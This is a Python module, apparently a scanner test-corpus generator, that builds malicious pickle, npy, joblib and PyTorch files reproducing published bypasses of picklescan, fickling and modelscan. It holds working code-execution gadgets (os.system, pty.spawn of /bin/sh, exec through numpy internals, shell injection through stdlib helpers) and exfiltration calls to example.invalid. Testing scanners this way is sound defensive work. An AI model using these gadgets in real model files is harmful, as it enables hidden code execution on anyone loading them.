_simple("picklescan-runpy._run_code", "picklescan malicious14",
        "runpy._run_code(code, globals) is exec", "runpy", "_run_code", lambda m: (_py(m), {}))
_add("picklescan-bdb.Bdb.run", "picklescan malicious15 (bdb debuggers, PR #29, 2024)",
     "bdb.Bdb.run(Bdb(), code) execs code under the debugger")(
    lambda m: ("model.pkl", _call("bdb", "Bdb.run", Call(G("bdb", "Bdb"), ()), _py(m))))


@_add("picklescan-nested-pickle.loads",
      "picklescan malicious13; protectai/modelscan#267 (2025, '_pickle.loads' not caught)",
      "pickle.loads(bytes) pickled as _pickle.loads: the payload is a pickle inside the pickle's bytes")
def _nested(m: Path) -> tuple[str, bytes]:
    return "model.pkl", _call("_pickle", "loads", _inner(m))


_simple("picklescan-io.FileIO", "picklescan io_FileIO.pkl (2025)", "io.FileIO(path, 'w') creates or truncates a file",
        "io", "FileIO", lambda m: (str(m), "w"))
_simple("CVE-2026-56304-logging.FileHandler", "CVE-2026-56304 (picklescan logging_FileHandler.pkl)",
        "logging.FileHandler(path) creates a file", "logging", "FileHandler", lambda m: (str(m),))
_simple("picklescan-urllib.request.urlopen", "picklescan urllib_request_urlopen.pkl",
        "urllib.request.urlopen(url) fetches (exfiltrates to) a URL", "urllib.request", "urlopen",
        lambda m: ("https://example.invalid/?" + m.name,), not_real="network only")


@_add("picklescan-types.CodeType",
      "picklescan types_CodeType.pkl (code objects built in the pickle)",
      "types.FunctionType(types.CodeType(...fields...), {})(): a function assembled from its code fields",
      not_real="" if sys.version_info[:2] == (3, 11) else "the CodeType fields are written for Python 3.11")
def _codetype(m: Path) -> tuple[str, bytes]:
    c = compile(_py(m), "<model>", "exec")
    fields = (c.co_argcount, c.co_posonlyargcount, c.co_kwonlyargcount, c.co_nlocals, c.co_stacksize, c.co_flags,
              c.co_code, c.co_consts, c.co_names, c.co_varnames, c.co_filename, c.co_name,
              getattr(c, "co_qualname", c.co_name), c.co_firstlineno, c.co_linetable,
              getattr(c, "co_exceptiontable", b""), c.co_freevars, c.co_cellvars)
    fn = Call(G("types", "FunctionType"), (Call(G("types", "CodeType"), fields), {}))
    return "model.pkl", p4(Call(fn, ()))


@_add("picklescan-cloudpickle-code-injection", "picklescan cloudpickle_codeinjection.pkl",
      "a function pickled by value by cloudpickle (its code rebuilt by cloudpickle's helpers) and called")
def _cloudpickle(m: Path) -> tuple[str, bytes]:
    import cloudpickle

    namespace: dict[str, Any] = {}
    exec(f"def payload():\n    {_py(m)}\n", namespace)  # noqa: S102 - defines, never calls

    class _R:
        def __reduce__(self) -> Any:
            return namespace["payload"], ()

    return "model.pkl", cloudpickle.dumps(_R(), protocol=4)


@_add("GHSA-vvpj-8cmc-gx39-pkgutil.resolve_name",
      "GHSA-vvpj-8cmc-gx39 (picklescan, CVSS 10, promptfoo 2026)",
      "pkgutil.resolve_name('os:system') returns any callable by name; the pickle calls what it returns")
def _resolve_name(m: Path) -> tuple[str, bytes]:
    return "model.pkl", p4(Call(Call(G("pkgutil", "resolve_name"), ("os:system",)), (_sh(m),)))


_simple("GHSA-7wx9-6375-f5wh-profile.run", "GHSA-7wx9-6375-f5wh (picklescan, 2026)",
        "module-level profile.run(code) (only Profile.run was blocked) execs code", "profile", "run",
        lambda m: (_py(m),))

_G38 = "GHSA-g38g-8gr9-h9xp / CVE-2026-56315 (picklescan); GHSA-5hwf-rc88-82xm (fickling)"
_simple("GHSA-g38g-uuid._get_command_stdout", _G38, "uuid._get_command_stdout(cmd, *args) runs a program",
        "uuid", "_get_command_stdout", lambda m: ("touch", str(m)))
_simple("GHSA-g38g-_osx_support._read_output", _G38, "_osx_support._read_output(cmd) is os.system",
        "_osx_support", "_read_output", lambda m: (_sh(m),))
_simple("GHSA-g38g-_osx_support._find_build_tool", _G38,
        "_osx_support._find_build_tool(name) pastes name into a shell command",
        "_osx_support", "_find_build_tool", lambda m: (f"x; {_sh(m)} #",))
_simple("GHSA-g38g-_aix_support._read_cmd_output", _G38, "_aix_support._read_cmd_output(cmd) is os.system",
        "_aix_support", "_read_cmd_output", lambda m: (_sh(m),), not_real=_PY312)
_simple("GHSA-g38g-_pyrepl.pager.pipe_pager", "GHSA-g38g-8gr9-h9xp / CVE-2026-56315 (picklescan)",
        "_pyrepl.pager.pipe_pager(text, cmd) runs cmd with shell=True", "_pyrepl.pager", "pipe_pager",
        lambda m: ("", _sh(m)), not_real="needs Python 3.13+ (_pyrepl)")
_simple("GHSA-g38g-imaplib.IMAP4_stream", "GHSA-g38g-8gr9-h9xp / CVE-2026-56315 (picklescan)",
        "imaplib.IMAP4_stream(cmd) runs cmd with shell=True", "imaplib", "IMAP4_stream", lambda m: (_sh(m),))
_simple("GHSA-g38g-test.support.script_helper", "GHSA-g38g-8gr9-h9xp / CVE-2026-56315 (picklescan)",
        "test.support.script_helper.assert_python_ok('-c', code) runs a Python child",
        "test.support.script_helper", "assert_python_ok", lambda m: ("-c", _py(m)))
_simple("GHSA-g38g-py_compile.compile", "GHSA-g38g-8gr9-h9xp (picklescan; py_compile, per promptfoo's write-up)",
        "py_compile.compile(src, cfile) writes a file where the pickle says", "py_compile", "compile",
        lambda m: ("/dev/null", str(m), None, True))
_simple("GHSA-g38g-pdb.run", "GHSA-g38g-8gr9-h9xp (picklescan; pdb, per promptfoo's write-up)",
        "pdb.run(code) execs code (once the debugger is told to continue)", "pdb", "run", lambda m: (_py(m),),
        stdin=lambda m: b"c\n")


@_add("GHSA-g38g-codeop.compile_command+FunctionType",
      "GHSA-g38g-8gr9-h9xp (picklescan; codeop, per promptfoo's write-up)",
      "codeop.compile_command(src) makes a code object, types.FunctionType makes it callable")
def _codeop(m: Path) -> tuple[str, bytes]:
    code = Call(G("codeop", "compile_command"), (_py(m), "<model>", "exec"))
    return "model.pkl", p4(Call(Call(G("types", "FunctionType"), (code, {})), ()))


_simple("modelscan-PR346-mailcap.findmatch", "protectai/modelscan PR #346 (2026)",
        "mailcap.findmatch(caps, type) runs an entry's 'test' command with os.system", "mailcap", "findmatch",
        lambda m: ({"text/plain": [{"view": "true", "test": _sh(m)}]}, "text/plain"))

# ---- fickling (2024-2026)


@_add("fickling-GHSA-r7v6-mfhq-g3m2-pty+BUILD", "GHSA-r7v6-mfhq-g3m2 / CVE-2025-67748 (fickling)",
      "pty.spawn via memoized STACK_GLOBAL, its result used by a BUILD so no variable looks unused")
def _pty_build(m: Path) -> tuple[str, bytes]:
    body = (_s("pty") + b"\x94" + _s("spawn") + b"\x94\x93\x94" + emit(["/bin/sh", "-c", _sh(m)]) + b"\x94\x85\x94R\x94"
            + _s("gottem") + b"\x94b.")
    return "model.pkl", b"\x80\x04" + body


@_add("fickling-PR108-pty-OBJ", "trailofbits/fickling#108 (2024)",
      "protocol 0: MARK, GLOBAL pty spawn, args, OBJ: a call without REDUCE")
def _pty_obj(m: Path) -> tuple[str, bytes]:
    return "model.pkl", b"(cpty\nspawn\n(" + _S("/bin/sh") + _S("-c") + _S(_sh(m)) + b"lo."


@_add("fickling-GHSA-565g-hwwr-4pp3-marshal+FunctionType", "GHSA-565g-hwwr-4pp3 / CVE-2025-67747 (fickling)",
      "marshal.loads(bytes) gives a code object, types.FunctionType(code, {})() runs it")
def _marshal(m: Path) -> tuple[str, bytes]:
    code = Call(G("marshal", "loads"), (marshal.dumps(compile(_py(m), "<model>", "exec")),))
    return "model.pkl", p4(Call(Call(G("types", "FunctionType"), (code, {})), ()))


_simple("fickling-GHSA-wfq2-52f7-7qvj-runpy.run_path", "GHSA-wfq2-52f7-7qvj / CVE-2026-22606 (fickling)",
        "runpy.run_path(path) runs a script (here: the loader's standard input)", "runpy", "run_path",
        lambda m: ("/dev/stdin",), stdin=lambda m: _py(m).encode() + b"\n")


@_add("fickling-GHSA-q5qq-importlib.import_module", "GHSA-q5qq-mvfm-j35x / CVE-2026-22609 (fickling)",
      "getattr(importlib.import_module('os'), 'system')(cmd)")
def _import_module(m: Path) -> tuple[str, bytes]:
    system = Call(G("builtins", "getattr"), (Call(G("importlib", "import_module"), ("os",)), "system"))
    return "model.pkl", p4(Call(system, (_sh(m),)))


@_add("fickling-GHSA-q5qq-code.InteractiveInterpreter.runsource", "GHSA-q5qq-mvfm-j35x / CVE-2026-22609 (fickling)",
      "getattr(code.InteractiveInterpreter(), 'runsource')(src)")
def _runsource(m: Path) -> tuple[str, bytes]:
    run = Call(G("builtins", "getattr"), (Call(G("code", "InteractiveInterpreter"), ()), "runsource"))
    return "model.pkl", p4(Call(run, (_py(m),)))


_simple("fickling-GHSA-q5qq-multiprocessing.util.spawnv_passfds",
        "GHSA-q5qq-mvfm-j35x / CVE-2026-22609 (fickling); protectai/modelscan#338 §1",
        "multiprocessing.util.spawnv_passfds(path, argv, fds) forks and execs a program",
        "multiprocessing.util", "spawnv_passfds", lambda m: (b"/bin/sh", [b"/bin/sh", b"-c", _sh(m).encode()], ()))


@_add("fickling-GHSA-5hvc-6wx8-mvv4-pydoc.locate", "GHSA-5hvc-6wx8-mvv4 (fickling)",
      "pydoc.locate('os.system') imports and returns any dotted name; the pickle calls it")
def _locate(m: Path) -> tuple[str, bytes]:
    return "model.pkl", b"cpydoc\nlocate\n" + _S("os.system") + b"\x85Rp0\n0g0\n" + _S(_sh(m)) + b"\x85R."


@_add("fickling-GHSA-h4rm-mm56-xf63-builtins-blindness", "GHSA-h4rm-mm56-xf63 / CVE-2026-22612 (fickling)",
      "only builtins imports (__import__, getattr); the exit code goes into an Exception's BUILD state so "
      "nothing looks unused")
def _builtins_blind(m: Path) -> tuple[str, bytes]:
    return "model.pkl", (
        b"cbuiltins\n__import__\nS'os'\n\x85Rp0\n0"
        b"cbuiltins\ngetattr\ng0\nS'system'\n\x86Rp1\n0"
        b"g1\n" + _S(_sh(m)) + b"\x85Rp2\n0"
        b"cbuiltins\nException\n)Rp3\n}S'rce_status'\ng2\nsb."
    )


@_add("fickling-GHSA-mxhj-88fx-4pcv-OBJ+POP", "GHSA-mxhj-88fx-4pcv (fickling, promptfoo 2026)",
      "OBJ calls os.system and POP discards the result, so the call never reaches the decompiled AST")
def _obj_pop(m: Path) -> tuple[str, bytes]:
    return "model.pkl", b"\x80\x02(cos\nsystem\nV" + _sh(m).encode() + b"\no0}."


_MHC9 = "GHSA-mhc9-48gj-9gp3 (fickling: stdlib modules taken as likely safe)"
_simple("fickling-GHSA-mhc9-sqlite3.connect", _MHC9, "sqlite3.connect(path) creates a database file",
        "sqlite3", "connect", lambda m: (str(m),))
_add("fickling-GHSA-mhc9-socketserver", _MHC9,
     "socketserver.UnixStreamServer(path, handler) binds a socket (a listener; here a socket file)")(
    lambda m: ("model.pkl", _call("socketserver", "UnixStreamServer", str(m), G("socketserver", "BaseRequestHandler"))))
_simple("fickling-GHSA-mhc9-smtplib.SMTP", _MHC9, "smtplib.SMTP(host) connects out", "smtplib", "SMTP",
        lambda m: ("example.invalid",), not_real="network only")

# ---- modelscan (2024-2026)


@_add("modelscan-85-BUILD-on-numpy.prod", "protectai/modelscan#85 (2024)",
      "BUILD sets numpy.prod.a='os', numpy.prod.b='system'; GLOBAL 'numpy prod.a' etc. feed STACK_GLOBAL via the memo")
def _prod_build(m: Path) -> tuple[str, bytes]:
    return "model.pkl", (
        b"\x80\x05cnumpy\nprod\nN(Va\nVos\nd\x86bN(Vb\nVsystem\nd\x86b0"
        b"cnumpy\nprod.a\np0\ncnumpy\nprod.b\np1\n00g0\ng1\n\x93V" + _sh(m).encode() + b"\n\x85R."
    )


@_add("modelscan-89-dict.get-numpy.__builtins__", "protectai/modelscan#89 (2024)",
      "dict.get(numpy.__builtins__, 'exec'): a builtin reached through a trusted module's namespace")
def _builtins_of_numpy(m: Path) -> tuple[str, bytes]:
    return "model.pkl", (
        b"\x80\x05cbuiltins\ndict.get\ncnumpy\n__builtins__\nVexec\n\x86RV" + _py(m).encode() + b"\n\x85R."
    )


@_add("modelscan-89-sys.modules-into-numpy.prod", "protectai/modelscan#89 (2024)",
      "BUILD copies sys.modules (reached as numpy.core._internal.sys.modules) onto numpy.prod, then "
      "GLOBAL 'numpy prod.os.system'")
def _sys_modules(m: Path) -> tuple[str, bytes]:
    return "model.pkl", (
        b"\x80\x05cnumpy\nprod\nNcnumpy\ncore._internal.sys.modules\n\x86b0"
        b"cnumpy\nprod.os.system\nV" + _sh(m).encode() + b"\n\x85R."
    )


@_add("modelscan-330-numpy.size-shape", "protectai/modelscan#330 (Dec 2025)",
      "BUILD sets numpy.size.shape = numpy.__builtins__; numpy.size(numpy.size, 'eval') returns shape['eval']",
      not_real="NumPy 2.4's size() normalizes the axis before indexing the shape")
def _np_size(m: Path) -> tuple[str, bytes]:
    return "model.pkl", (
        b"\x80\x04" + _s("numpy") + _s("size") + b"\x93\x94\x94" + _s("numpy") + _s("__builtins__") + b"\x93\x94\x94"
        + b"h\x01}}" + _s("shape") + b"h\x03s\x86bh\x01h\x01" + _s("eval") + b"\x86R" + _s(_py(m)) + b"\x85R."
    )


@_add("modelscan-338-introspection-chain", "protectai/modelscan#338 §10 (2026; deterministic reconstruction)",
      "a GLOBAL name that walks attributes: 'builtins print.__self__.exec' is exec without naming it")
def _introspection(m: Path) -> tuple[str, bytes]:
    return "model.pkl", b"\x80\x04cbuiltins\nprint.__self__.exec\nV" + _py(m).encode() + b"\n\x85R."


_simple("modelscan-338-mlflow._run_entry_point", "protectai/modelscan#338 §1 (2026)",
        "mlflow.projects.backend.local._run_entry_point(cmd, ...) runs a shell command",
        "mlflow.projects.backend.local", "_run_entry_point", lambda m: (_sh(m), ".", "", ""),
        not_real="mlflow is not installed")
_simple("modelscan-338-pandas.read_csv-url", "protectai/modelscan#338 §1 (2026)",
        "pandas.io.parsers.readers.read_csv(url) fetches (exfiltrates to) a URL",
        "pandas.io.parsers.readers", "read_csv", lambda m: ("https://example.invalid/?" + m.name,),
        not_real="network only")


@_add("picklescan-sys.modules-override", "picklescan sys_module_override_sploit.pkl (reconstruction)",
      "sys.modules['collections'] = os through SETITEM, then GLOBAL 'collections system' is os.system")
def _modules_override(m: Path) -> tuple[str, bytes]:
    return "model.pkl", (
        b"csys\nmodules\nS'collections'\nc__builtin__\n__import__\n(S'os'\ntRs0"
        b"ccollections\nsystem\n(" + _S(_sh(m)) + b"tR."
    )


# ---- ReversingLabs "nullifAI" (Feb 2025): broken pickles, 7z instead of zip


def _nullifai_pickle(m: Path) -> bytes:
    """Protocol 2, the payload at the start, then a break (an opcode byte pickle does not know)."""
    return b"\x80\x02" + emit(Call(G("builtins", "exec"), (_py(m),))) + b"\xff\x00broken"


_add("nullifAI-broken-pickle", "ReversingLabs, 'nullifAI' (malicious models on Hugging Face, Feb 2025)",
     "the payload sits at the start of a deliberately broken stream: it runs before the unpickler errors")(
    lambda m: ("model.pkl", _nullifai_pickle(m)))
_add("nullifAI-7z-archive", "ReversingLabs, 'nullifAI' (Feb 2025); picklescan malicious1.7z",
     "a PyTorch-layout archive compressed with 7z instead of zip, holding the broken pickle",
     loader="7z")(
    lambda m: ("pytorch_model.7z", sevenzip({"archive/data.pkl": _nullifai_pickle(m), "archive/version": b"3\n"})))

# ---- the same bypasses in other containers


_add("container-npy-object-array-ssl", "picklescan dns_exfiltration.npy (GHSA-hgrh-qx5j-jfwx network modules)",
     "a .npy object array whose pickle calls ssl.get_server_certificate (DNS exfiltration)",
     loader="numpy", not_real="network only")(
    lambda m: ("weights.npy", _npy(_call("ssl", "get_server_certificate", (m.name + ".example.invalid", 443)))))
_add("container-npy-object-array-resolve_name", "GHSA-vvpj-8cmc-gx39 in a .npy (container variant)",
     "a .npy object array whose pickle is the pkgutil.resolve_name chain", loader="numpy")(
    lambda m: ("weights.npy", _npy(_resolve_name(m)[1])))
_add("container-npz-uuid", "GHSA-g38g-8gr9-h9xp in a .npz (container variant)",
     "an .npz member array whose pickle calls uuid._get_command_stdout", loader="npz")(
    lambda m: ("arrays.npz", bytes(_zip({"w.npy": _npy(_call("uuid", "_get_command_stdout", "touch", str(m)))}))))
_add("container-joblib-zlib-mailcap", "modelscan PR #346 gadget in a joblib file (container variant)",
     "joblib's zlib compression around the mailcap.findmatch pickle", loader="joblib")(
    lambda m: ("model.joblib", zlib.compress(_call("mailcap", "findmatch",
                                                   {"text/plain": [{"view": "true", "test": _sh(m)}]}, "text/plain"), 3)))
_add("container-gzip-profile.run", "GHSA-7wx9-6375-f5wh in a gzip file (container variant)",
     "gzip around the profile.run pickle", loader="gzip")(
    lambda m: ("model.pkl.gz", gzip.compress(_call("profile", "run", _py(m)))))
_add("container-torch-zip-resolve_name", "GHSA-vvpj-8cmc-gx39 as a torch.save archive (container variant)",
     "the pkgutil.resolve_name chain as data.pkl of a PyTorch zip", loader="torch")(
    lambda m: ("pytorch_model.bin", bytes(_torch_zip(_resolve_name(m)[1]))))

